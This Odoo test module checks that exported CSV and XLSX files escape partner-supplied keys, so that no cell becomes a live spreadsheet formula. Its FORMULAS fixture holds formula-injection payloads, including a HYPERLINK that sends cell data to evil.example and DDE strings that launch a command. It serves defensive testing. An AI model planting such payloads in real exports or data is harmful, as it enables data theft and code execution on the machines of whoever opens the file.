"""What partners sent ends in spreadsheets: as text, whatever it looks like."""

import csv
import io
import json

import openpyxl

from odoo import http
from odoo.tests import HttpCase, tagged

from .common import IntegrationCase

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Details")&',
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)


@tagged("post_install", "-at_install")
class TestExport(IntegrationCase, HttpCase):
    def setUp(self):
        super().setUp()
        self.wms = self.system("WMS Hafen")
        gate = self.env["res.partner"].create({"name": "Gate 4"})
        for key in FORMULAS:
            self.env["integration.external.id"]._learn(self.wms, gate, key)
        auditor = self.user("ada.auditor", "integration_core.group_operator", "base.group_allow_export")
        auditor.password = "ada.auditor-2026"
        self.authenticate("ada.auditor", "ada.auditor-2026")

    def exported(self, kind, **values):
        """The bytes that the list's export button brings."""
        wanted = {
            "model": "integration.external.id",
            "fields": [
                {"name": "external_key", "label": "Key", "type": "char"},
                {"name": "system_id/name", "label": "System", "type": "char"},
            ],
            "ids": False,
            "domain": [["system_id", "=", self.wms.id]],
            "groupby": [],
            "context": {},
            "import_compat": False,
            **values,
        }
        self.env.flush_all()
        answer = self.url_open(
            f"/web/export/{kind}",
            data={"data": json.dumps(wanted), "csrf_token": http.Request.csrf_token(self)},
        )
        self.assertEqual(answer.status_code, 200, answer.text[:300])
        return answer.content

    def cells(self, workbook):
        sheet = openpyxl.load_workbook(io.BytesIO(workbook)).active
        return [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]

    def test_no_cell_of_a_csv_begins_a_formula(self):
        for import_compat in (False, True):
            rows = list(csv.reader(io.StringIO(self.exported("csv", import_compat=import_compat).decode())))
            keys = [row[0] for row in rows[1:]]
            self.assertEqual(len(keys), len(FORMULAS))
            self.assertEqual([key for key in keys if not key.startswith("'")], [])

    def test_no_cell_of_a_workbook_is_a_formula(self):
        for import_compat in (False, True):
            cells = self.cells(self.exported("xlsx", import_compat=import_compat))
            self.assertGreaterEqual(len(cells), len(FORMULAS))
            self.assertEqual([cell.value for cell in cells if cell.data_type == "f"], [])

    def test_no_title_of_a_group_is_a_formula(self):
        cells = self.cells(self.exported("xlsx", groupby=["external_key"]))
        titles = [cell.value for cell in cells if str(cell.value).startswith("=HYPERLINK")]
        self.assertTrue(titles, "the title is there, as it came")
        self.assertEqual([cell.value for cell in cells if cell.data_type == "f"], [])

    def test_what_is_exported_to_be_imported_is_itself(self):
        self.wms.user_id = False
        manager = self.manager()
        keys = self.env["integration.external.id"].search([("system_id", "=", self.wms.id)])
        keys = keys.with_user(manager).with_context(import_compat=True)
        manager.group_ids += self.env.ref("base.group_allow_export")
        exported = [row[0] for row in keys.export_data(["external_key"])["datas"]]
        self.assertEqual(sorted(exported), sorted(FORMULAS))

    def test_other_models_are_exported_as_ever(self):
        self.env["res.partner"].create({"name": "=1+1", "ref": "OTHER"})
        wanted = {"model": "res.partner", "domain": [["ref", "=", "OTHER"]]}
        fields = [{"name": "name", "label": "Name", "type": "char"}]
        cells = self.cells(self.exported("xlsx", fields=fields, **wanted))
        self.assertEqual([cell.data_type for cell in cells], ["f"], "Odoo's own way: not ours to change")
